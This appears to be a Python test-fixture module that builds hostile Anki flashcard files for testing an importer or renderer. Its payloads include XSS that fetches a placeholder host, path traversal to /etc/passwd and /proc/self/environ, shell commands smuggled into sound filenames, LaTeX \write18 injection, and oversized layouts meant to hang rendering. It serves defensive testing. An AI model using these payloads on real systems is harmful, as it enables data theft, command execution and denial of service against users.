"""Cards that do harm when they are drawn: rows 1 to 5, 23 to 25, 27, and those that hang a layout (38)."""

from collections.abc import Callable, Iterable
from functools import partial
from itertools import cycle, islice
from pathlib import Path

from formats.anki.packages import CLOZE, LATEST, LEGACY, LEGACY_2, Made
from hostile.files import Bait, Case, apkg, card_type, html_text, markdown

RUNNING = (  # row 1; each has its words, which stay
    "<script>fetch('http://{host}/a')</script>kata",
    "<img src=x onerror=\"fetch('http://{host}/a')\">kata",
    "<a href=\"javascript:fetch('http://{host}/a')\">kata</a>",
    '<iframe src="http://{host}/a"></iframe>kata',
    '<svg onload="alert(1)"><image href="http://{host}/a"/></svg>kata',
    '<object data="http://{host}/a"></object><embed src="http://{host}/a">kata',
    '<meta http-equiv="refresh" content="0;url=http://{host}/a">kata',
    '<style>@import "http://{host}/a"; body {{ display: none }}</style>kata',
    '<form action="http://{host}/a"><input autofocus onfocus=alert(1)><button>x</button></form>kata',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    "</table></mtext></math>kata",
    '<base href="http://{host}/">kata<img src="a.png">',
    '<img srcset="http://{host}/a 1x" src="a.png">kata',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9;background:red">kata</div>',
    '<a href="data:text/html,<script>alert(1)</script>">kata</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">kata',
    "<div background='http://{host}/a' style=\"background-image:url(http://{host}/a)\">kata</div>",
    '<table background="http://{host}/a"><tr><td background="http://{host}/b">kata</td></tr></table>',
    '<link rel=stylesheet href="http://{host}/a"><body background="http://{host}/a">kata',
    "<p dir=rtl><font color=red size=99>kata</font></p><plaintext>&lt;",
    "<xmp><img src=x></xmp><listing>kata</listing><![CDATA[<img src=http://{host}/a>]]>kata",
)
REMOTE = (  # row 2
    '<img src="http://{host}/a.png">',
    '<img src="//{host}/a.png">',
    '<img src="HTTP:\\\\{host}\\a.png">',
    '<audio src="http://{host}/a.mp3" autoplay></audio>',
    '<video src="http://{host}/a.mp4" poster="http://{host}/b.png" autoplay></video>',
    "[sound:http://{host}/a.mp3]",
    "[sound://{host}/a.mp3]",
    '<img src="&#104;ttp://{host}/a.png">',
    '<img src="ht\ttp://{host}/a.png">',
    '<img src="ftp://{host}/a.png"><img src="qrc:/a.png"><img src="data:image/png;base64,AAAA">',
)
LOCAL = (  # row 3
    '<img src="{secret}">',
    '<img src="file://{secret}">',
    '<img src="file:{secret}"><img src="FILE:///{secret}">',
    '<img src="../../../../../../../../../..{secret}">',
    '<img src="%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e{secret}">',
    '<img src="\\\\{host}\\share\\a.png"><img src="//{host}/share/a.png">',
    '<img src="a.png/../../../../../../../../..{secret}">',
    "[sound:{secret}]",
    "[sound:file://{secret}]",
    "[sound:../../../../../../../../../..{secret}]",
    '<audio src="{secret}"></audio><video><source src="file://{secret}"></video>',
    '<img src="/etc/passwd"><img src="/dev/zero"><img src="/proc/self/environ"><img src="&#47;etc/passwd">',
)
COMMANDS = (  # row 4
    "[sound:--script=/tmp/a.lua]",
    "[sound:-]",
    "[sound:a.mp3; touch {secret}.run]",
    "[sound:$(touch {secret}.run)]",
    "[sound:`touch {secret}.run`]",
    "[sound:|touch {secret}.run]",
    "[sound:a.mp3\x00.png][sound:&#x2d;&#x2d;script=a]",
    "[anki:play:q:0][anki:tts lang=id]kata[/anki:tts]",
)
TEX = (  # row 5
    "[latex]\\input{{/etc/passwd}}[/latex]",
    "[latex]\\immediate\\write18{{touch {secret}.run}}[/latex]",
    "[$]\\newwrite\\f\\openout\\f={secret}.run[/$]",
    "[$$]\\verbatiminput{{{secret}}}[/$$]",
    "\\(\\def\\a{{\\a\\a}}\\a\\)",
    "[latex]" * 3000 + "\\loop\\iftrue\\repeat",
    "\\[" * 5000 + "x" + "\\]" * 5000,
    "[$]" + "\\frac{{" * 3000 + "1" + "}}{{2}}" * 3000 + "[/$]",
)


def filled(fields: Iterable[str], bait: Bait) -> list[str]:
    return [field.format(host=bait.host, secret=bait.secret) for field in fields]


def _in_apkg(fields: tuple[str, ...], generation: int, folder: Path, bait: Bait) -> Path:
    return apkg(folder, filled(fields, bait), generation=generation)


def _in_text(fields: tuple[str, ...], folder: Path, bait: Bait) -> Path:
    return html_text(folder, [field.replace("\x00", "") for field in filled(fields, bait)])


def _in_template(fields: tuple[str, ...], folder: Path, bait: Bait) -> Path:
    """The same words in the template instead of in a field."""
    side = "\n".join(filled(fields, bait))
    return apkg(folder, ["kata"], card_type(side + "{{Depan}}", "{{Depan}}" + side))


def _sides(question: str, answer: str) -> Callable[[Path, Bait], Path]:
    return lambda folder, _bait: apkg(folder, ["kata"], card_type(question, answer))


def _css(folder: Path, bait: Bait) -> Path:
    kind = card_type()
    kind.css = (
        f".card {{}} </style><script>fetch('http://{bait.host}')</script> @import url(http://{bait.host}/a);"
        f" @font-face {{ src: url(file://{bait.secret}) }} .card {{ background: url({bait.secret}) }}"
        " .card { text-align: center" + "{" * 50_000
    )
    return apkg(folder, ["kata"], kind)


def _cloze(text: str) -> Callable[[Path, Bait], Path]:
    def make(folder: Path, _bait: Bait) -> Path:
        made = Made(LEGACY_2)
        note = made.note(text + "\x1f", CLOZE)
        for number in range(3):
            made.card(note, ord=number)
        return made.write(folder / "musuh.apkg")

    return make


def _one(field: str) -> Callable[[Path, Bait], Path]:
    return lambda folder, _bait: apkg(folder, [field])


def _ours(question: str) -> Callable[[Path, Bait], Path]:
    return lambda folder, _bait: markdown(folder, [question])


def _row(number: int, name: str, fields: tuple[str, ...]) -> Iterable[Case]:
    for generation, label in ((LEGACY, "anki2"), (LEGACY_2, "anki21"), (LATEST, "anki21b")):
        yield Case(number, f"{name}-{label}", partial(_in_apkg, fields, generation), cards=len(fields))
    yield Case(number, f"{name}-text", partial(_in_text, fields), cards=len(fields))
    yield Case(number, f"{name}-template", partial(_in_template, fields))


_HANGING = {
    "tables": "<table><tr><td>" * 20 + "kata",
    "tables-closed": "<table><tr><td>" * 20 + "kata" + "</table>" * 20,
    "tables-in-lists": "<ul><li><table><tr><td>" * 10 + "kata",
    "word": "w" * 1_000_000,
    "word-of-49999": "w" * 49_999,
    "divs": "<div>" * 20_000 + "kata",
    "spans": "<span style='color:red'>" * 20_000 + "kata" + "</span>" * 20_000,
    "fonts": "<font color=red>" * 2_900 + "kata",
    "bold-italic": "<b><i><u>" * 5_000 + "kata",
    "lists": "<ul><li>" * 5_000 + "kata",
    "quotes": "<blockquote>" * 4_000 + "kata",
    "items": "<ul>" + "<li>x" * 9_000,
    "cells": "<table>" + "<tr><td>x<td>y" * 3_500,
    "spans-of-cells": "<table><tr>" + "<td colspan=20 rowspan=20>x" * 1_500,
    "wide-span": "<table><tr><td colspan=99999999 rowspan=99999999>x",
    "breaks": "<br>" * 12_000 + "kata",
    "rules": "<hr>" * 12_000 + "kata",
    "pictures": "<img src=a.png>" * 3_000,
    "pictures-99": "<img src=a.png>" * 99,
    "sounds": "[sound:a.mp3]" * 3_500,
    "paragraphs": "<p>x" * 12_000,
    "headings": "<h1>x" * 9_000,
    "pre": "<pre>" + "x\n" * 20_000,
    "nested-sub": "<sub>" * 49 + "x" * 40_000,
    "attributes": "<p " + "a=b " * 11_000 + ">kata",
    "entities": "&amp;" * 9_900,
    "open-tags": "<" * 49_000,
    "open-comments": "<!--" * 12_000,
    "open-brackets": "[" * 49_000,
    "combining": "e" + "\u0301" * 48_000,
    "combining-many": "".join(f"{c}{chr(0x0300) * 20}" for c in islice(cycle("abc "), 2_300)),
    "two-directions": "a\u05d0" * 24_000,
    "joined-emoji": "👩\u200d👩\u200d👧" * 9_000,
    "flags": "🇮🇩" * 20_000,
    "soft-hyphens": "a\u00ad" * 24_000,
    "zero-width": "\u200b\u200d\ufeff" * 16_000,
    "arabic": "\u0628" * 49_000,
    "thai": "\u0e01\u0e34" * 24_000,
    "han": "\u6f22" * 49_000,
    "tabs": "\t\xa0" * 24_000,
    "long-s": "\ufdfa" * 49_000,
    "private": "\ue000\ue001\ue002\ue003\ue004\ue005\ue006" * 3_000,
    "faults": "\ue003field\ue003x\ue003" * 4_000,
    "styles": '<p style="' + "color:red;" * 4_900 + '">kata',
    "size": '<p style="font-size:99999px;line-height:99999;margin:99999px;width:9e9px">kata',
    "start": "<ol start=99999999999999999999><li>kata",
    "readings": "<ruby>" * 2_000 + "<rt>x</rt>" * 2_000,
    "occlusion": "{{c1::image-occlusion:polygon:points=" + "1,1 " * 11_000 + "}}<img src=a.png>",
}
_HANGING_MARKDOWN = {
    "brackets": "[" * 20_000,
    "links": "[a](" * 12_000,
    "images": "![" * 20_000 + "](a)" * 5_000,
    "stars": "*a **b " * 6_000,
    "quotes": "> " * 20_000 + "x",
    "ticks": "".join("`" * n + " " for n in range(1, 300)),
    "lists": "- " * 20_000 + "x",
    "autolinks": "<a@" * 12_000,
    "entities": "&" * 40_000,
    "underscores": "_a" * 20_000,
    "pipes": "|" * 40_000,
    "references": "[a]: b " * 6_000,
    "escapes": "\\" * 40_000,
}

CASES: list[Case] = [
    *_row(1, "running", RUNNING),
    *_row(2, "remote", REMOTE),
    *_row(3, "local", LOCAL),
    *_row(4, "commands", COMMANDS),
    *_row(5, "latex", TEX),
    Case(23, "sections", _sides("{{#Depan}}" * 3_000 + "x" + "{{/Depan}}" * 3_000, "{{Depan}}")),
    Case(23, "sections-open", _sides("{{#Depan}}" * 3_000 + "x", "{{/Depan}}" * 3_000)),
    Case(23, "front-side", _sides("{{FrontSide}}{{Depan}}", "{{FrontSide}}" * 20_000)),
    Case(23, "many-slots", _sides("{{Depan}}" * 50_000, "{{Depan}}")),
    Case(23, "filters", _sides("{{boom:evil:" + "text:" * 80 + "Depan}}", "{{x:Depan}}{{tts:y:Depan}}")),
    Case(23, "css", _css),
    Case(24, "deep", _cloze("{{c1::" * 5_000 + "kata" + "}}" * 5_000), cards=3),
    Case(24, "zero", _cloze("{{c0::a}} {{c-1::b}} {{c99999999999::c}} {{c1::kata}}"), cards=3),
    Case(24, "unclosed", _cloze("{{c1::kata}}" + "{{c1::a::" * 4_000), cards=3),
    Case(24, "hints", _cloze("{{c1::kata" + "::" * 9_000 + "}}"), cards=3),
    Case(24, "many", _cloze("{{c1,2,3::kata}}" + "{{c1::a}}" * 5_000), cards=3),
    Case(24, "html", _cloze('{{c1::<script>x</script><img src="http://h/a"><table>}}' * 300), cards=3),
    Case(27, "right-to-left", _one("\u202ekata\u2066\u2067\u2068\u061c\u200f\x1b[31m\x07")),
    Case(27, "nul-and-bom", _one("\ufeffka\x00ta\ufeff")),
    *(Case(38, name, _one(field)) for name, field in _HANGING.items()),
    *(Case(38, f"ours-{name}", _ours(field), cards=None) for name, field in _HANGING_MARKDOWN.items()),
]
